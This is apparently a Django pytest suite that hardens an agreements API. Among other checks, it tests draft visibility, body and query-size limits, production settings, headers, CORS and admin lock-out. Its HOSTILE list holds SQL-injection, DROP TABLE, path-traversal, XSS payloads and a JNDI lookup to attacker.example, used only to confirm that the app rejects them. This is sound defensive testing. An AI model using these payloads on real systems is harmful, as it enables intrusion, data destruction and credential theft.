"""Production hardening: no drafts through any route, hostile input never 500s, request-size
limits, production settings, security headers, CORS, admin lock-out and the request log."""

import json
import logging
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from django.core.cache import cache
from django.test import override_settings
from django.urls import URLPattern, URLResolver, get_resolver
from rest_framework.test import APIClient

from tests.agreements.fixtures import (
    PUBLISHED,
    SPECS,
    agreements_fixture,  # noqa: F401
    module_agreements_fixture,  # noqa: F401
)

from .factories import UserFactory

ROOT = Path(__file__).resolve().parents[1]

DRAFT_SPECS = [s for s in SPECS if not s["is_published"]]
# Text only drafts contain: their slugs and titles.
DRAFT_MARKERS = sorted({s["slug"] for s in DRAFT_SPECS} | {s["title"] for s in DRAFT_SPECS})


def _values(key):
    """Natural keys the drafts refer to (party codes, mineral slugs …), to put into routes."""
    found = set()
    for spec in DRAFT_SPECS:
        for item in spec.get(key, []):
            found.add(item[0] if isinstance(item, (list, tuple)) else item)
    return found


# Every value a route parameter is tried with: drafts' and published agreements' slugs, and
# the parties, minerals and people drafts mention.
ROUTE_VALUES = sorted(
    {s["slug"] for s in DRAFT_SPECS}
    | set(list(PUBLISHED)[:3])
    | {str(v) for v in _values("parties")}
    | {str(v) for v in _values("minerals")}
    | {"uk-2024", "GB", "US", "draftonly-person", "bandar-alkhorayef"}
)
# Query strings under which a leaked draft would show up on a list route.
DRAFT_QUERIES = [""] + [
    f"?{name}={quote(str(value))}"
    for spec in DRAFT_SPECS
    for name, value in (
        ("q", spec["title"].split()[0]),
        ("party", next(iter(_values("parties")), "GB")),
        ("mineral", next(iter(_values("minerals")), "lithium")),
        ("limit", 500),
    )
]

GROUP = re.compile(r"\(\?P<(?P<name>\w+)>[^)]*\)")
CONVERTER = re.compile(r"<(?:\w+:)?(?P<name>\w+)>")


def _routes(patterns=None, prefix=""):
    """(route template, parameter names) of every URL pattern of the project, templates with
    ``{name}`` where a parameter goes."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        raw = str(entry.pattern).lstrip("^").rstrip("$").replace("\\Z", "").replace("\\", "")
        template = CONVERTER.sub(r"{\g<name>}", GROUP.sub(r"{\g<name>}", raw))
        if isinstance(entry, URLResolver):
            yield from _routes(entry.url_patterns, prefix + template)
        elif isinstance(entry, URLPattern):
            full = "/" + prefix + template
            yield full, re.findall(r"{(\w+)}", full)


def _fill(template, names):
    if not names:
        return [template]
    urls = []
    for value in ROUTE_VALUES:
        urls.append(template.format(**{name: value for name in names}))
    return urls


def _body(response) -> str:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode(errors="replace")
    return response.content.decode(errors="replace")


pytestmark = pytest.mark.usefixtures("agreements")


def test_no_route_shows_a_draft_to_anonymous_clients(anon):
    """For every GET route of the project (API, feeds, exports, history, changes, docs …),
    with every draft's and related keys in its parameters and draft-matching filters, an
    anonymous response never contains a draft's slug or title; admin pages send anonymous
    clients to the login page."""
    checked = 0
    for template, names in _routes():
        if template.startswith("/admin/"):
            continue
        for url in _fill(template, names):
            queries = DRAFT_QUERIES if not names and url.startswith("/api/v1/") else [""]
            for query in queries:
                cache.clear()
                response = anon.get(url + query)
                assert response.status_code < 500, (url + query, response.status_code)
                body = _body(response)
                leaked = [m for m in DRAFT_MARKERS if m in body]
                assert not leaked, (url + query, leaked)
                checked += 1
    assert checked > 50


def test_admin_pages_redirect_anonymous_clients_to_login(anon, agreements):
    """Every admin page but the login page itself redirects an anonymous client to login."""
    draft = next(a for a in agreements.values() if not a.is_published)
    for template, names in _routes():
        if not template.startswith("/admin/") or "login" in template or "logout" in template:
            continue
        url = template.format(**{name: draft.pk for name in names})
        response = anon.get(url)
        assert response.status_code in (302, 404), (url, response.status_code)
        if response.status_code == 302:
            assert response["Location"].startswith("/admin/login/"), url
        assert not [m for m in DRAFT_MARKERS if m in _body(response)], url


HOSTILE = [
    "' OR '1'='1",
    "1' OR 1=1 --",
    "'; DROP TABLE agreements_agreement; --",
    '" OR ""="',
    "1 UNION SELECT username, password FROM auth_user",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "..\\..\\windows\\win.ini",
    "\x00",
    "abc\x00def",
    "%00",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "9" * 40,
    "-1",
    "1e309",
    ",",
]


def _list_operations():
    """(path, query parameter names) of every list operation in the OpenAPI schema."""
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    for path, operations in schema["paths"].items():
        get = operations.get("get")
        if get and "{" not in path:
            yield path, [p["name"] for p in get.get("parameters", []) if p["in"] == "query"]


def test_hostile_filter_values_give_4xx_or_a_harmless_200(anon):
    """SQL-injection and path-traversal strings in every filter of every list endpoint give a
    4xx or a 200 that shows nothing an unfiltered anonymous list would not: never a 500."""
    checked = 0
    for path, params in _list_operations():
        for param in params:
            for value in HOSTILE:
                response = anon.get(path, {param: value})
                assert response.status_code < 500, (path, param, value, response.status_code)
                if response.status_code == 200:
                    assert not [m for m in DRAFT_MARKERS if m in _body(response)]
                    body = response.json() if "json" in response.get("Content-Type", "") else {}
                    if isinstance(body, dict) and path == "/api/v1/agreements/":
                        assert {r["slug"] for r in body.get("results", [])} <= PUBLISHED
                else:
                    assert 400 <= response.status_code < 500
                checked += 1
    assert checked > 100


def test_hostile_lookups_are_not_found(anon):
    """Hostile strings in place of a slug or code are 404 (in the API's error shape), never 500."""
    for template, names in _routes():
        if not names or not template.startswith("/api/"):
            continue
        for value in HOSTILE:
            url = template.format(**{name: quote(value, safe="") for name in names})
            response = anon.get(url)
            assert 400 <= response.status_code < 500, (url, response.status_code)
            if template.startswith("/api/v1/"):
                assert response.json()["errors"][0]["code"] in {"not_found", "invalid"}


def _error(response, status, code):
    assert response.status_code == status, (response.status_code, response.content[:300])
    body = response.json()
    assert body == {
        "type": "client_error",
        "errors": [{"code": code, "detail": body["errors"][0]["detail"], "attr": None}],
    }


@override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=10_000)
def test_oversized_bodies_are_413_before_parsing(editor_api):
    """A body over MAX_REQUEST_BODY_BYTES is refused with 413 in the error shape, whatever its
    content; one under the limit reaches the API."""
    big = json.dumps({"title": "x" * 20_000})
    _error(
        editor_api.post("/api/v1/agreements/", big, content_type="application/json"),
        413,
        "request_too_large",
    )
    _error(
        editor_api.patch("/api/v1/people/x/", big, content_type="application/json"),
        413,
        "request_too_large",
    )
    small = editor_api.post("/api/v1/agreements/", {"title": ""}, format="json")
    assert small.status_code == 400


def test_chunked_bodies_are_limited_too(rf, settings):
    """A chunked body (no Content-Length) is read up to the limit: over it → 413; under it the
    body is passed on with its length."""
    import io

    from config.api.middleware import RequestLimitsMiddleware

    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100
    seen = {}

    def view(request):
        seen["body"] = request.body
        from django.http import HttpResponse

        return HttpResponse("ok")

    middleware = RequestLimitsMiddleware(view)
    for size, status in ((500, 413), (50, 200)):
        request = rf.post("/api/v1/agreements/", content_type="application/json")
        request.META.pop("CONTENT_LENGTH", None)
        request.META["HTTP_TRANSFER_ENCODING"] = "chunked"
        request.META["wsgi.input"] = io.BytesIO(b"x" * size)
        response = middleware(request)
        assert response.status_code == status
    assert seen["body"] == b"x" * 50


def test_long_query_strings_are_refused(anon, settings):
    """A query string over MAX_QUERY_STRING_LENGTH gets 414 in the error shape."""
    settings.MAX_QUERY_STRING_LENGTH = 200
    _error(anon.get("/api/v1/agreements/", {"q": "a" * 300}), 414, "request_uri_too_long")
    assert anon.get("/api/v1/agreements/", {"q": "a" * 50}).status_code == 200


def test_page_size_is_capped(anon):
    """limit above 500 is a 400 naming the parameter."""
    response = anon.get("/api/v1/agreements/", {"limit": 501})
    assert response.status_code == 400
    assert response.json()["errors"][0]["attr"] == "limit"


# --- production settings (each in a fresh interpreter, as a server would start) ----------

PRODUCTION_ENV = {
    "SECRET_KEY": secrets.token_urlsafe(50),
    "ALLOWED_HOSTS": "api.example.org",
    "SECURE_SSL_REDIRECT": "1",
    "SECURE_HSTS_PRELOAD": "1",
}


def _run(args, extra_env, drop=()):
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in {"DEBUG", "SECRET_KEY", "DJANGO_SETTINGS_MODULE", *drop}
        and not k.startswith("PYTEST")
    }
    env.update(extra_env)
    return subprocess.run(
        [sys.executable, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )


def test_production_settings_keep_debug_off_and_https_on():
    """Imported with production variables, settings have DEBUG off, secure cookies and HSTS."""
    code = (
        "import json, config.settings as s; print(json.dumps({k: getattr(s, k) for k in "
        "['DEBUG', 'SESSION_COOKIE_SECURE', 'CSRF_COOKIE_SECURE', 'SECURE_HSTS_SECONDS', "
        "'SECURE_SSL_REDIRECT', 'AXES_ENABLED']}))"
    )
    result = _run(["-c", code], PRODUCTION_ENV)
    assert result.returncode == 0, result.stderr
    values = json.loads(result.stdout.strip().splitlines()[-1])
    assert values == {
        "DEBUG": False,
        "SESSION_COOKIE_SECURE": True,
        "CSRF_COOKIE_SECURE": True,
        "SECURE_HSTS_SECONDS": 31536000,
        "SECURE_SSL_REDIRECT": True,
        "AXES_ENABLED": True,
    }


def test_server_refuses_to_start_without_secret_key():
    """Without SECRET_KEY (and without DEBUG) manage.py stops with a clear message."""
    result = _run(["manage.py", "check"], {}, drop={"SECRET_KEY"})
    assert result.returncode != 0
    assert "SECRET_KEY is not set" in result.stderr


def test_check_deploy_passes_with_production_variables():
    """`check --deploy --fail-level WARNING` passes with the documented production variables."""
    result = _run(["manage.py", "check", "--deploy", "--fail-level", "WARNING"], PRODUCTION_ENV)
    assert result.returncode == 0, result.stderr + result.stdout
    assert "no issues" in result.stdout


# --- headers --------------------------------------------------------------------------------

BASE_HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "same-origin",
    "X-Frame-Options": "DENY",
    "Cross-Origin-Opener-Policy": "same-origin",
}


@pytest.mark.parametrize("path", ["/api/v1/agreements/", "/api/v1/parties/GB/", "/admin/login/"])
def test_security_headers_on_api_and_admin(anon, path):
    """API and admin responses carry the security headers."""
    response = anon.get(path)
    assert response.status_code == 200
    for name, value in BASE_HEADERS.items():
        assert response[name] == value, name
    assert response["X-Request-ID"]


@override_settings(SECURE_HSTS_SECONDS=31536000, SECURE_HSTS_INCLUDE_SUBDOMAINS=True)
def test_hsts_over_https_under_production_settings(ref):
    """Over HTTPS, with the production HSTS setting, responses carry Strict-Transport-Security."""
    for path in ("/api/v1/agreements/", "/admin/login/"):
        response = APIClient().get(path, secure=True)
        assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"


def test_cors_allows_read_only_cross_origin_gets_on_the_api(anon):
    """Any origin may GET the API (no credentials); preflight offers only safe methods; the
    admin has no CORS headers."""
    origin = {"HTTP_ORIGIN": "https://dashboard.example"}
    response = anon.get("/api/v1/agreements/", **origin)
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in response
    preflight = anon.options(
        "/api/v1/agreements/", HTTP_ACCESS_CONTROL_REQUEST_METHOD="POST", **origin
    )
    methods = {m.strip() for m in preflight["Access-Control-Allow-Methods"].split(",")}
    assert methods == {"GET", "HEAD", "OPTIONS"}
    assert "Access-Control-Allow-Origin" not in anon.get("/admin/login/", **origin)


@pytest.mark.django_db
@override_settings(AXES_ENABLED=True, AXES_FAILURE_LIMIT=3)
def test_admin_login_locks_out_after_repeated_failures(ref):
    """After AXES_FAILURE_LIMIT failed admin logins, even the right password is refused."""
    user = UserFactory(username="lockme", is_superuser=True)
    client = APIClient()
    for _ in range(3):
        response = client.post(
            "/admin/login/", {"username": user.username, "password": "wrong-password"}
        )
        assert response.status_code in (200, 429)
    locked = client.post(
        "/admin/login/", {"username": user.username, "password": "correct-horse-battery"}
    )
    assert locked.status_code == 429
    assert "_auth_user_id" not in client.session


def test_each_request_is_logged_as_one_json_line(anon):
    """The request log has one JSON object per request with the fields operators need."""
    records = []
    handler = logging.Handler()
    handler.emit = records.append
    logger = logging.getLogger("cmat.request")
    logger.addHandler(handler)
    try:
        anon.get("/api/v1/agreements/?limit=1", HTTP_X_REQUEST_ID="trace-123")
    finally:
        logger.removeHandler(handler)
    assert len(records) == 1
    line = json.loads(records[0].getMessage())
    assert set(line) == {"method", "path", "status", "duration_ms", "user", "request_id"}
    assert line["method"] == "GET" and line["path"] == "/api/v1/agreements/"
    assert line["status"] == 200 and line["user"] == "anonymous"
    assert line["request_id"] == "trace-123" and line["duration_ms"] >= 0
